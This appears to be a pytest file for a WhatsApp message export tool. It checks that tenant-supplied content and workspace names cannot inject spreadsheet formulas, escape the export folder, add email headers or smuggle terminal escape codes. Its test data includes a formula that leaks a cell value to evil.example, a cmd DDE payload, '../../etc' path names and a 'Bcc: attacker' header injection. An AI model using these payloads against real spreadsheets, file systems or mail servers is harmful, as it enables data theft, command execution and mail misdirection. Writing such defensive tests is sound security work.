"""Untrusted message content and tenant-controlled workspace names.

Everything hostile goes into one database and is exported by ONE scheduled run
of the installed CLI; a second, small run checks the `--json` anomaly report.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from datetime import timedelta
from email import message_from_bytes
from email.policy import compat32
from pathlib import Path
from typing import Any

from bson import Binary, ObjectId
from openpyxl import load_workbook

from helpers import attachments, parse_json, sheet_rows, xlsx_files
from seeding import (
    MISSING,
    add_chat,
    add_messages,
    add_workspace,
    message_doc,
    settle_arrivals,
    utcnow,
)
from wa_export.workbook.cells import CELL_TEXT_LIMIT
from wa_export.workbook.writer import SHEET_TITLE

FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+49 151 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=\r\n=2+2",
]
CONTROL_INPUT = "a\x00b\x01c\x02d\x03e\x04f\x05g\x06h\x07i\x08j\x0bk\x0cl\x0em\x0fn\x10o\x1bp\x1fq"
CONTROL_OUTPUT = "abcdefghijklmnopq"
UNICODE_TEXTS = [
    "👍🏽🎉 family: 👨\u200d👩\u200d👧 flag: 🇩🇪",
    "مرحبا، كيف يمكنني مساعدتك؟",  # Arabic, right-to-left
    "你好，世界！请问订单什么时候发货？",
    "e\u0301 n\u0303 a\u030a \u0915\u094d\u0937 Z\u0351\u0308\u0324",  # combining marks, not normalised
    "tab\tnewline\nkept",
]
HUGE = "x" * 100_000
TRUNCATION = re.compile(r"… \[truncated by wa-export: (\d+) characters omitted\]$")
# (content as stored, expected readable text) for non-string content.
ODD_CONTENT: list[tuple[Any, Any]] = [
    (MISSING, ("", None)),
    (None, ("", None)),
    (42, ("42",)),
    (3.5, ("3.5",)),
    (True, ("True",)),
    (["a", 1, {"b": None}], ('["a",1,{"b":null}]',)),
    ({"type": "image", "caption": "Straße 👍"}, ('{"type":"image","caption":"Straße 👍"}',)),
    (Binary(b"\x00\x01\x02\xff", 0), ("<binary 4 bytes>",)),
]
NON_TEXT = sum(1 for value, _ in ODD_CONTENT if value is not MISSING and value is not None)

HOSTILE_NAMES = [
    "../../etc",
    "..",
    "",
    "🎉🔥💬",
    "CON",
    ("Ünïcødé Tenant " * 20)[:300],
    "Acme\r\nBcc: attacker@example.com",
]
ALLOWED_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "message-id",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
}


def _seed_hostile_workspace(db: Any) -> tuple[ObjectId, list[tuple[Any, tuple[Any, ...]]]]:
    """The untrusted-content workspace; returns its id and, in timestamp order, (content, allowed cell values)."""
    workspace_id = add_workspace(db, "Hostile Content")
    chat_id = add_chat(db, workspace_id, phone_number="+15550001111", customer_phone="+4915112345678")
    expected: list[tuple[Any, tuple[Any, ...]]] = []
    expected += [(text, (text,)) for text in FORMULA_LIKE]
    expected.append((CONTROL_INPUT, (CONTROL_OUTPUT,)))
    expected += [(text, (text,)) for text in UNICODE_TEXTS]
    expected.append((HUGE, ("<truncated>",)))
    expected += ODD_CONTENT
    start = utcnow() - timedelta(minutes=5)
    add_messages(
        db,
        chat_id,
        [
            {"content": content, "timestamp": start + timedelta(milliseconds=index), "direction": "incoming"}
            for index, (content, _) in enumerate(expected)
        ],
    )
    return workspace_id, expected


def _seed_anomalies(db: Any, workspace_id: ObjectId, at: Any, orphans: int) -> None:
    """Two messages of a phoneless chat, two of unknown direction, `orphans` orphans."""
    phoneless = add_chat(db, workspace_id, phone_number=MISSING, customer_phone=None)
    add_messages(
        db,
        phoneless,
        [
            {"content": "no phones 1", "timestamp": at},
            {"content": "no phones 2", "timestamp": at + timedelta(milliseconds=1), "direction": "outgoing"},
        ],
    )
    chat_id = db.chats.find_one({"workspace_id": workspace_id, "phone_number": "+15550001111"})["_id"]
    add_messages(
        db,
        chat_id,
        [
            {"content": "sideways", "timestamp": at + timedelta(milliseconds=2), "direction": "sideways"},
            {"content": "no direction", "timestamp": at + timedelta(milliseconds=3), "direction": MISSING},
        ],
    )
    orphaned = [
        message_doc(ObjectId(), content=f"orphan {i}", timestamp=at + timedelta(milliseconds=4 + i))
        for i in range(orphans)
    ]
    db.messages.insert_many(orphaned)
    settle_arrivals([doc["_id"] for doc in orphaned])


def _sheet_xml_has_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert re.search(r"<(\w+:)?f[\s>/]", xml) is None, f"formula element in {name}"
            assert 't="str"' not in xml  # a cached formula result type
        assert not any("calcChain" in name for name in archive.namelist())


def _check_converts_with_libreoffice(path: Path, out_dir: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:  # not installed: this one extra check is conditional
        return
    out_dir.mkdir()
    result = subprocess.run(
        [soffice, "--headless", "--convert-to", "csv", "--outdir", str(out_dir), str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        env={"HOME": str(out_dir), "PATH": "/usr/bin:/bin"},
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Error" not in result.stderr
    assert (out_dir / (path.stem + ".csv")).stat().st_size > 0


def test_hostile_content_names_and_anomalies_in_one_scheduled_run(mongo_db, make_env, cli, smtp_server, tmp_path):
    hostile_id, expected = _seed_hostile_workspace(mongo_db)
    _seed_anomalies(mongo_db, hostile_id, utcnow() - timedelta(minutes=4), orphans=3)

    recipients = {str(hostile_id): "hostile@tenant0.test"}
    names = {str(hostile_id): "Hostile Content"}
    for index, name in enumerate(HOSTILE_NAMES, start=1):
        workspace_id = add_workspace(mongo_db, name)
        add_messages(
            mongo_db,
            add_chat(mongo_db, workspace_id),
            [{"content": f"hello {index}", "timestamp": utcnow() - timedelta(minutes=3)}],
        )
        recipients[str(workspace_id)] = f"ws{index}@tenant{index}.test"
        names[str(workspace_id)] = name

    export_dir = tmp_path / "exports"
    env = make_env(**{f"WORKSPACE_{wid}_EMAIL": address for wid, address in recipients.items()})
    result = cli(["export"], env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and result.stderr == ""

    # --- counts in the run summary (plain stdout) and in system_logs ---------------------
    counts = {"missing_phone": 2, "unknown_direction": 2, "orphaned_message": 3, "non_text_content": NON_TEXT}
    [summary_line] = [line for line in result.stdout.splitlines() if "export run:" in line]
    assert "data issues: " in summary_line
    for name, count in counts.items():
        assert f"{count} {name}" in summary_line, summary_line
    [event] = list(mongo_db.system_logs.find({"kind": "export_run"}))
    assert event["anomalies"] == counts
    for name, count in counts.items():
        assert f"{count} {name}" in event["message"]
    hostile_log = mongo_db.export_logs.find_one({"workspace_id": str(hostile_id)})
    assert hostile_log["status"] == "completed"
    assert hostile_log["anomalies"] == {k: v for k, v in counts.items() if k != "orphaned_message"}

    # --- the workbook --------------------------------------------------------------------
    files = xlsx_files(export_dir)
    assert len(files) == len(recipients)
    [hostile_file] = [path for path in files if path.parent.name == "hostile_content"]
    load_workbook(hostile_file)  # opens
    _sheet_xml_has_no_formula(hostile_file)
    _check_converts_with_libreoffice(hostile_file, tmp_path / "soffice-out")
    workbook = load_workbook(hostile_file)
    assert workbook.sheetnames == [SHEET_TITLE]
    for row in workbook[SHEET_TITLE].iter_rows(min_row=2):
        assert row[2].data_type == "s" or row[2].value is None, (row[2].coordinate, row[2].data_type)
    rows = sheet_rows(hostile_file)
    assert len(rows) == len(expected) + 4  # + 2 phoneless + 2 unknown direction; orphans skipped

    for (stored, allowed), row in zip(expected, rows[: len(expected)], strict=True):
        value = row[2]
        if allowed == ("<truncated>",):
            match = TRUNCATION.search(value)
            assert match is not None, value[-80:]
            assert len(value) <= CELL_TEXT_LIMIT
            kept = value[: match.start()]
            assert kept == "x" * len(kept) and len(kept) + int(match.group(1)) == len(HUGE)
            assert len(kept) > CELL_TEXT_LIMIT - 100
        else:
            assert value in allowed, (stored if not isinstance(stored, str) else stored[:60], value)
        if isinstance(value, str) and stored in UNICODE_TEXTS:
            assert value.encode("utf-8") == stored.encode("utf-8")  # byte for byte
    anomalous = {row[2]: row for row in rows[len(expected) :]}
    assert set(anomalous) == {"no phones 1", "no phones 2", "sideways", "no direction"}
    for text in ("no phones 1", "no phones 2"):
        sender, receiver, _, _, status, workspace = anomalous[text]
        assert sender in (None, "") and receiver in (None, "")
        assert workspace == str(hostile_id)
    assert anomalous["no phones 1"][4] == "received" and anomalous["no phones 2"][4] == "sent_by_human"
    assert anomalous["sideways"][4] == anomalous["no direction"][4] == "unknown"
    assert not any(str(row[2]).startswith("orphan") for row in rows)

    # --- files inside EXPORT_DIR, safe folders, names within 255 bytes -------------------
    root = export_dir.resolve()
    for path in export_dir.rglob("*"):
        assert path.resolve().is_relative_to(root), path
        assert len(path.name.encode("utf-8")) <= 255, path.name
        relative = path.relative_to(export_dir)
        assert all(re.fullmatch(r"[a-z0-9_]+", part) for part in relative.parts[:-1] or ()), relative
        if path.is_dir():
            assert re.fullmatch(r"[a-z0-9_]+", path.name), path.name
            assert path.parent == export_dir  # one level of workspace folders, nothing deeper
    assert {path.parent.parent for path in files} == {export_dir}
    assert len({path.parent for path in files}) == len(recipients)
    assert not (tmp_path / "etc").exists() and not Path("/etc/whatsapp_messages").exists()
    folder_names = {path.parent.name for path in files}
    assert "etc" in folder_names and "con_ws" in folder_names
    assert all(name.lower() not in {"con", "..", "."} for name in folder_names)

    # --- exactly the intended recipients, single-line subject, no injected header --------
    mails = smtp_server.wait_for_messages(len(recipients), timeout=10)
    assert len(mails) == len(recipients)
    seen: set[str] = set()
    for mail in mails:
        assert len(mail.rcpt_tos) == 1
        [address] = mail.rcpt_tos
        assert address in recipients.values() and address not in seen
        seen.add(address)
        workspace_id = next(wid for wid, value in recipients.items() if value == address)
        assert "attacker" not in address
        header_block = mail.data.split(b"\r\n\r\n", 1)[0]
        raw = message_from_bytes(mail.data, policy=compat32)
        assert {key.lower() for key in raw.keys()} <= ALLOWED_HEADERS, raw.keys()
        assert raw.get_all("Bcc") is None and raw.get_all("Cc") is None
        assert len(raw.get_all("Subject")) == 1 and len(raw.get_all("To")) == 1
        for line in header_block.split(b"\r\n"):
            assert not line.lower().startswith((b"bcc:", b"cc:")), line
            assert b"\n" not in line and b"\r" not in line
        message = mail.message()
        # .strip(): Python's folder may break right after "Subject:" (an RFC-valid fold).
        subject = str(message["Subject"]).strip()
        assert "\r" not in subject and "\n" not in subject
        assert subject.startswith("WhatsApp Messages Export - ")
        expected_name = " ".join(names[workspace_id].split()) or workspace_id
        assert expected_name in subject, (expected_name, subject)
        assert str(message["To"]) == address
        log = mongo_db.export_logs.find_one({"workspace_id": workspace_id})
        assert [name for name, _, _ in attachments(message)] == [Path(log["file_path"]).name]
        assert log["email_sent_to"] == address
        assert b"attacker@example.com" not in header_block.replace(b"\r\n ", b" ").split(b"Subject:")[0]
    assert set(recipients.values()) == seen
    assert mongo_db.export_logs.count_documents({"status": "completed"}) == len(recipients)
    for mail in mails:
        if mail.rcpt_tos == ["hostile@tenant0.test"]:
            [(_, _, payload)] = attachments(mail.message())
            assert payload == hostile_file.read_bytes()

    # --- the counts again, machine-readable: a second scheduled run with --json ----------
    _seed_anomalies(mongo_db, hostile_id, utcnow(), orphans=1)
    second = cli(["export", "--json"], env=env)
    assert second.returncode == 0, second.stdout + second.stderr
    document = parse_json(second)
    assert document["anomalies"] == {
        "missing_phone": 2,
        "unknown_direction": 2,
        "orphaned_message": 1,
    }, document["anomalies"]
    assert document["orphaned_messages"] == 1
    assert "1 orphaned_message" in document["summary"]
    [hostile] = [ws for ws in document["workspaces"] if ws["workspace_id"] == str(hostile_id)]
    assert hostile["anomalies"] == {"missing_phone": 2, "unknown_direction": 2}
    assert hostile["by_status"]["unknown"] == 2
    events = list(mongo_db.system_logs.find({"kind": "export_run"}).sort("timestamp", 1))
    assert len(events) == 2 and events[1]["anomalies"] == document["anomalies"]


def test_a_workspace_name_with_escape_sequences_reaches_log_lines_escaped(mongo_db, make_env, cli):
    workspace_id = add_workspace(mongo_db, "Evil\x1b[2J\x1b[31mShop\x07")
    add_messages(mongo_db, add_chat(mongo_db, workspace_id), [{"direction": "incoming"}])
    env = make_env(**{f"WORKSPACE_{workspace_id}_EMAIL": "ops@evil.test"})
    for command in (["export", "--dry-run"], ["state"], ["state", str(workspace_id)]):
        result = cli(command, env=env)
        assert result.returncode == 0, result.stdout + result.stderr
        assert "\x1b" not in result.stdout and "\x07" not in result.stdout, command  # nothing a terminal would obey
        assert 'name="Evil\\u001b[2J\\u001b[31mShop\\u0007"' in result.stdout, result.stdout
